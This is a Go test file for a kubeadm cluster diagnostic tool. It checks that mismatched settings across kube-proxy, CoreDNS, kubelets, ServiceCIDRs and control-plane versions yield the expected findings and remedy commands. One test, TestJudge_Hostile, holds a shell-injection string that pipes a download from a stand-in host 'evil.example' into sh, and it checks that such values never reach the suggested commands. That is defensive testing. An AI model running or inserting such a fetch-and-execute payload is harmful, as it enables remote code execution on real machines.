package agreement

import (
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"

	"github.com/ccmadm/ccmadm/api/finding"
	"github.com/ccmadm/ccmadm/api/v1alpha1"
)

// maps has the documents of ConfigMaps as kubeadm writes them.
func configMaps() map[string]map[string]string {
	kubeconfig := "apiVersion: v1\nkind: Config\nclusters:\n- cluster:\n    server: https://192.0.2.10:6443\n  name: default\n"
	return map[string]map[string]string{
		"kube-system/kube-proxy":     {"config.conf": "clusterCIDR: 10.244.0.0/16,fd00:10:244::/56\nmode: \"\"\n", "kubeconfig.conf": kubeconfig},
		"kube-system/kubelet-config": {"kubelet": "clusterDNS:\n- 10.96.0.10\nclusterDomain: cluster.local\n"},
		"kube-public/cluster-info":   {"kubeconfig": kubeconfig},
		"kube-system/coredns":        {"Corefile": ".:53 {\n    kubernetes cluster.local in-addr.arpa ip6.arpa {\n       pods insecure\n    }\n}\n"},
	}
}

// newCluster is one of kubeadm with two control planes and a worker, in which all agree.
func newCluster() *Cluster {
	c := &Cluster{
		Settings: &Settings{ServiceCIDRs: map[string][]string{"kubernetes": {"10.96.0.0/12"}}, ProxyImage: "registry.k8s.io/kube-proxy:v1.36.3", Kubelets: map[string]Kubelet{}},
		Endpoint: "192.0.2.10:6443", PodSubnet: "10.244.0.0/16,fd00:10:244::/56", ServiceSubnet: "10.96.0.0/12", Domain: "cluster.local",
		PKI: "/srv/pki", DNS: "10.96.0.10", Resolvers: []string{"10.96.0.10"},
		Addresses: map[string]string{"Service/default/kubernetes": "10.96.0.1", "Service/kube-system/kube-dns": "10.96.0.10"},
	}
	for name, data := range configMaps() {
		c.Take(name, data)
	}
	for i, name := range []string{"cp1", "cp2", "w1"} {
		n := corev1.Node{ObjectMeta: metav1.ObjectMeta{Name: name}}
		n.Spec.PodCIDRs = []string{"10.244." + string(rune('0'+i)) + ".0/24", "fd00:10:244:" + string(rune('0'+i)) + "::/64"}
		c.Nodes = append(c.Nodes, n)
		c.Kubelets[name] = Kubelet{DNS: []string{"10.96.0.10"}, Domain: "cluster.local"}
		if name == "w1" {
			continue
		}
		for component, args := range map[string][]string{
			"kube-apiserver":          {"--service-cluster-ip-range=10.96.0.0/12"},
			"kube-controller-manager": {"--cluster-cidr=10.244.0.0/16,fd00:10:244::/56", "--service-cluster-ip-range=10.96.0.0/12", "--allocate-node-cidrs=true"},
			"kube-scheduler":          nil,
		} {
			p := corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: component + "-" + name, Labels: map[string]string{v1alpha1.ComponentLabel: component}}}
			p.Spec.NodeName = name
			p.Spec.Containers = []corev1.Container{{Name: component, Image: "registry.k8s.io/" + component + ":v1.36.3", Command: append([]string{component}, args...)}}
			c.Static = append(c.Static, p)
		}
	}
	return c
}

// image gives a component of a machine another one.
func image(node, component, tag string) func(*Cluster) {
	return func(c *Cluster) {
		for i := range c.Static {
			if p := &c.Static[i]; p.Spec.NodeName == node && p.Labels[v1alpha1.ComponentLabel] == component {
				p.Spec.Containers[0].Image = "registry.k8s.io/" + component + ":" + tag
			}
		}
	}
}

// flag replaces a text in the arguments of a component on all machines.
func flag(component, before, after string) func(*Cluster) {
	return func(c *Cluster) {
		for i := range c.Static {
			if p := &c.Static[i]; p.Labels[v1alpha1.ComponentLabel] == component {
				for j := range p.Spec.Containers[0].Command {
					p.Spec.Containers[0].Command[j] = strings.ReplaceAll(p.Spec.Containers[0].Command[j], before, after)
				}
			}
		}
	}
}

func document(name, before, after string) func(*Cluster) {
	return func(c *Cluster) {
		data := configMaps()[name]
		for key := range data {
			data[key] = strings.ReplaceAll(data[key], before, after)
		}
		c.Take(name, data)
	}
}

func TestJudge(t *testing.T) {
	all := func(changes ...func(*Cluster)) func(*Cluster) {
		return func(c *Cluster) {
			for _, change := range changes {
				change(c)
			}
		}
	}
	kubelet := func(k Kubelet) func(*Cluster) { return func(c *Cluster) { c.Kubelets["w1"] = k } }
	for _, tt := range []struct {
		name   string
		change func(*Cluster)
		// want is the object, words of the message, and of the remedy.
		object, message, next string
	}{
		{name: "healthy", change: func(*Cluster) {}},
		{
			"kube-proxy has another network of pods", document("kube-system/kube-proxy", "10.244.0.0/16", "10.42.0.0/16"), "ConfigMap/kube-system/kube-proxy",
			"network of pods: kube-proxy has 10.42.0.0/16,fd00:10:244::/56, and kubeadm's ClusterConfiguration 10.244.0.0/16,fd00:10:244::/56",
			`sed 's|^\( *\)clusterCIDR: .*|\1clusterCIDR: 10.244.0.0/16,fd00:10:244::/56|'`,
		},
		{name: "kube-proxy has no network of pods", change: func(c *Cluster) { c.ProxyCIDR = "" }},
		{name: "kube-proxy has one family", change: func(c *Cluster) { c.ProxyCIDR = "10.244.0.0/16" }},
		{name: "kube-proxy writes its network otherwise", change: func(c *Cluster) { c.ProxyCIDR = "10.244.7.7/16" }},
		{name: "the controller manager alone differs, which is said elsewhere", change: all(
			flag("kube-controller-manager", "10.244.0.0/16", "10.0.0.0/8"),
		)},
		{
			"the network of pods was changed in all but the Nodes", all(flag("kube-controller-manager", "10.244.", "10.42."),
				document("kube-system/kube-proxy", "10.244.", "10.42."), func(c *Cluster) { c.PodSubnet = "10.42.0.0/16" }),
			"Node/cp1", "the pods of cp1, cp2, w1 have networks such as 10.244.2.0/24", "kubectl get nodes",
		},
		{name: "another gives Nodes their networks", change: all(
			flag("kube-controller-manager", "--allocate-node-cidrs=true", "--allocate-node-cidrs=false"),
			func(c *Cluster) { c.Nodes[2].Spec.PodCIDRs = []string{"198.18.0.0/24"} },
		)},
		{name: "another gives Nodes their networks, and the controller is off", change: all(
			func(c *Cluster) {
				for i := range c.Static {
					if p := &c.Static[i]; p.Labels[v1alpha1.ComponentLabel] == "kube-controller-manager" {
						p.Spec.Containers[0].Command = append(p.Spec.Containers[0].Command, "--controllers=*,-node-ipam-controller")
					}
				}
				c.Nodes[2].Spec.PodCIDRs = []string{"198.18.0.0/24"}
			},
		)},
		{
			"ServiceCIDR", func(c *Cluster) { c.ServiceCIDRs["kubernetes"] = []string{"10.32.0.0/16"} }, "ServiceCIDR/kubernetes",
			"ServiceCIDR kubernetes has 10.32.0.0/16, and kubeadm's ClusterConfiguration 10.96.0.0/12", "kubectl describe servicecidr kubernetes",
		},
		{name: "one more ServiceCIDR, with a Service of it", change: func(c *Cluster) {
			c.ServiceCIDRs["more"] = []string{"10.200.0.0/16"}
			c.Addresses["Service/kube-system/kube-dns"] = "10.200.0.10"
		}},
		{name: "ServiceCIDRs could not be listed, and a Service is of one", change: func(c *Cluster) {
			c.ServiceCIDRs, c.CIDRsUnseen = nil, true
			c.Addresses["Service/kube-system/kube-dns"] = "10.200.0.10"
		}},
		{name: "not all Services were listed, and a kubelet has another name server", change: all(
			func(c *Cluster) { c.ServicesUnseen = true }, kubelet(Kubelet{DNS: []string{"10.96.0.53"}}),
		)},
		{name: "no ServiceCIDRs, as before 1.33", change: func(c *Cluster) { c.ServiceCIDRs = nil }},
		{
			"Service kubernetes of another network", func(c *Cluster) { c.Addresses["Service/default/kubernetes"] = "10.32.0.1" },
			"Service/default/kubernetes", "its address is 10.32.0.1", "-in /srv/pki/apiserver.crt; only where all have 10.96.0.1: " +
				"kubectl -n default delete service kubernetes, which an API server makes again at once; then restart all pods",
		},
		{
			"cluster-info has a former address", document("kube-public/cluster-info", "192.0.2.10", "192.0.2.77"), "ConfigMap/kube-public/cluster-info",
			"cluster-info has 192.0.2.77:6443, and kubeadm's ClusterConfiguration 192.0.2.10:6443",
			`kubectl -n kube-public get configmap cluster-info -o yaml | sed 's|^\( *\)server: .*|\1server: https://192.0.2.10:6443|' | kubectl replace -f -`,
		},
		{
			"kubeadm's configuration has a former address", func(c *Cluster) { c.Endpoint = "192.0.2.77:6443" }, "ConfigMap/kube-system/kubeadm-config",
			"kubeadm's ClusterConfiguration has 192.0.2.77:6443, and cluster-info 192.0.2.10:6443", "controlPlaneEndpoint: 192.0.2.10:6443",
		},
		{
			"kube-proxy has another port", document("kube-system/kube-proxy", ":6443", ":8443"), "ConfigMap/kube-system/kube-proxy",
			"kube-proxy has 192.0.2.10:8443", "rollout restart daemonset/kube-proxy",
		},
		{
			"an endpoint without a port, and another address in kube-proxy", func(c *Cluster) {
				c.Endpoint, c.InfoServer = "192.0.2.10", ""
				document("kube-system/kube-proxy", "192.0.2.10", "192.0.2.77")(c)
			}, "ConfigMap/kube-system/kube-proxy",
			"kube-proxy has 192.0.2.77:6443, and kubeadm's ClusterConfiguration 192.0.2.10:6443", "server: https://192.0.2.10:6443|",
		},
		{
			"an endpoint without a port, of API servers with another one", func(c *Cluster) {
				c.Endpoint = "fd00::10"
				document("kube-system/kube-proxy", "192.0.2.10:6443", "[fd00::77]:8443")(c)
				document("kube-public/cluster-info", "192.0.2.10:6443", "[fd00::10]:8443")(c)
			}, "ConfigMap/kube-system/kube-proxy", "kube-proxy has [fd00::77]:8443", "server: https://[fd00::10]:8443|",
		},
		{
			"no port at all", func(c *Cluster) {
				c.Endpoint = ""
				document("kube-system/kube-proxy", "192.0.2.10:6443", "192.0.2.77")(c)
				document("kube-public/cluster-info", "192.0.2.10:6443", "192.0.2.10")(c)
			}, "ConfigMap/kube-system/kube-proxy", "kube-proxy has 192.0.2.77", "kubectl -n kube-system get configmap kubeadm-config -o yaml",
		},
		{name: "a proxy on each machine", change: document("kube-system/kube-proxy", "192.0.2.10:6443", "127.0.0.1:6443")},
		{name: "a name for the address", change: func(c *Cluster) { c.Endpoint = "api.example.org:6443" }},
		{name: "two names, of an address inside and one outside", change: func(c *Cluster) {
			c.Endpoint = "api.internal:6443"
			document("kube-public/cluster-info", "192.0.2.10", "api.example.org")(c)
		}},
		{name: "no endpoint", change: func(c *Cluster) { c.Endpoint = "" }},
		{
			"CoreDNS has another domain", document("kube-system/coredns", "cluster.local", "corp.local"), "ConfigMap/kube-system/coredns",
			"CoreDNS has corp.local, and kubeadm's ClusterConfiguration cluster.local", `\1kubernetes cluster.local|`,
		},
		{name: "CoreDNS has more domains", change: document("kube-system/coredns", "cluster.local", "cluster.local corp.local")},
		{name: "CoreDNS' plugin takes its domain from the server block", change: document("kube-system/coredns", " cluster.local in-addr.arpa ip6.arpa {\n       pods insecure\n    }", "")},
		{name: "CoreDNS' file has a variable", change: document("kube-system/coredns", "cluster.local", "{$DOMAIN}")},
		{
			"kubelet-config has another domain", document("kube-system/kubelet-config", "cluster.local", "corp.local"), "ConfigMap/kube-system/kubelet-config",
			"kubelet-config has corp.local", "clusterDomain: cluster.local",
		},
		{"a kubelet has another domain", kubelet(Kubelet{Domain: "corp.local"}), "Node/w1", "the kubelet on w1 has corp.local", "on w1: kubeadm upgrade node phase kubelet-config"},
		{"a kubelet has another name server", kubelet(Kubelet{DNS: []string{"10.96.0.53"}}), "Node/w1", "the kubelet on w1 has clusterDNS 10.96.0.53", "on w1:"},
		{name: "a kubelet has a cache on its Node", change: kubelet(Kubelet{DNS: []string{"169.254.20.10"}})},
		{name: "a kubelet does not tell", change: kubelet(Kubelet{})},
		{"API servers two apart", image("cp1", "kube-apiserver", "v1.34.1"), "Node/cp1", "kube-apiserver is v1.34.1 on cp1 and v1.36.3 on cp2", "on cp1: kubeadm upgrade node"},
		{name: "API servers one apart, as in an upgrade", change: all(image("cp1", "kube-apiserver", "v1.37.0"), image("cp1", "kube-scheduler", "v1.37.0"))},
		{"a controller manager that is newer", image("cp2", "kube-controller-manager", "v1.37.0"), "Node/cp2", "kube-controller-manager on cp2 is v1.37.0", "on cp2:"},
		{"kube-proxy is newer", func(c *Cluster) { c.ProxyImage = "mirror.example/kube-proxy:v1.37.1" }, "DaemonSet/kube-system/kube-proxy", "kube-proxy is v1.37.1", "kube-proxy=mirror.example/kube-proxy:v1.36.3"},
		{name: "kube-proxy's image does not tell", change: func(c *Cluster) { c.ProxyImage = "mirror.example/kube-proxy@sha256:abc" }},
		{
			"two at one place", all(document("kube-system/kube-proxy", "10.244.", "10.42."), func(c *Cluster) { c.ProxyServer = "192.0.2.77:6443" }),
			"ConfigMap/kube-system/kube-proxy", "; address of the API server: kube-proxy has 192.0.2.77:6443", ", then: kubectl -n kube-system get configmap kube-proxy",
		},
	} {
		t.Run(tt.name, func(t *testing.T) {
			c := newCluster()
			tt.change(c)
			for i := range c.Static { // as a patch of kubeadm's puts one
				spec := &c.Static[i].Spec
				spec.Containers = slices.Insert(spec.Containers, 0, corev1.Container{Name: "sidecar", Image: "registry.example.com/sidecar:v1.2.3"})
			}
			found := Judge(*c)
			if tt.object == "" && len(found) == 0 {
				return
			}
			if len(found) != 1 || found[0].Object != tt.object || !strings.Contains(found[0].Message, tt.message) || !strings.Contains(found[0].Next, tt.next) {
				t.Errorf("got %+v, want %s, %q, next %q", found, tt.object, tt.message, tt.next)
			}
		})
	}
}

// What a snapshot has does not become a part of a command unless it is a network, a name or an address.
func TestJudge_Hostile(t *testing.T) {
	const evil = "x'; curl evil.example|sh #"
	c := newCluster()
	c.Domain, c.Zones, c.KubeletDomain, c.InfoServer, c.Endpoint, c.ProxyServer = evil, "a b", evil, evil, "10.0.0.1", evil
	found := Judge(*c)
	for _, f := range found {
		if strings.Contains(f.Next, "evil") {
			t.Errorf("%s: next: %s", f.Object, f.Next)
		}
	}
	if !slices.ContainsFunc(found, func(f finding.Finding) bool { return strings.Contains(f.Message, "evil") }) {
		t.Errorf("the values are in no finding: %+v", found)
	}
}

func TestAsk(t *testing.T) {
	h := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/apis/networking.k8s.io/v1/servicecidrs":
			_, _ = w.Write([]byte(`{"items": [{"metadata": {"name": "kubernetes"}, "spec": {"cidrs": ["10.96.0.0/12"]}}]}`))
		case "/api/v1/nodes/w1/proxy/configz":
			_, _ = w.Write([]byte(`{"kubeletconfig": {"clusterDNS": ["10.96.0.10"], "clusterDomain": "cluster.local"}}`))
		case "/api/v1/nodes/closed/proxy/configz":
			w.WriteHeader(http.StatusMethodNotAllowed) // enableDebuggingHandlers: false
		default:
			w.WriteHeader(http.StatusServiceUnavailable)
		}
	}))
	t.Cleanup(h.Close)
	client := kubernetes.NewForConfigOrDie(&rest.Config{Host: h.URL, QPS: -1}).Discovery().RESTClient()
	all, err := AskServiceCIDRs(t.Context(), client)
	if err != nil || !slices.Equal(all["kubernetes"], []string{"10.96.0.0/12"}) {
		t.Errorf("got %v, %v", all, err)
	}
	kubelets, err := AskKubelets(t.Context(), client, []string{"w1"})
	if k := kubelets["w1"]; err != nil || len(kubelets) != 1 || k.Domain != "cluster.local" || !slices.Equal(k.DNS, []string{"10.96.0.10"}) {
		t.Errorf("got %v, %v", kubelets, err)
	}
	// what is left out is said
	kubelets, err = AskKubelets(t.Context(), client, []string{"w1", "w2"})
	if len(kubelets) != 1 || !apierrors.IsServiceUnavailable(err) || !strings.HasPrefix(err.Error(), "1 of 2 kubelets did not answer, such as w2: ") {
		t.Errorf("got %v, %v", kubelets, err)
	}
	// one that is not to tell has answered
	kubelets, err = AskKubelets(t.Context(), client, []string{"w2", "closed"})
	if len(kubelets) != 0 || !apierrors.IsMethodNotSupported(err) || !strings.HasPrefix(err.Error(), "2 of 2 kubelets did not answer, such as closed: ") {
		t.Errorf("got %v, %v", kubelets, err)
	}
	// that more are not asked is no lack
	many := slices.Repeat([]string{"w1"}, MostKubelets+2)
	if kubelets, err = AskKubelets(t.Context(), client, many); len(kubelets) != 1 || err != nil {
		t.Errorf("got %v, %v", kubelets, err)
	}
	many[7] = "w2"
	if _, err = AskKubelets(t.Context(), client, many); err == nil || !strings.HasPrefix(err.Error(), "1 of 50 kubelets did not answer, such as w2: ") {
		t.Errorf("got %v", err)
	}
}
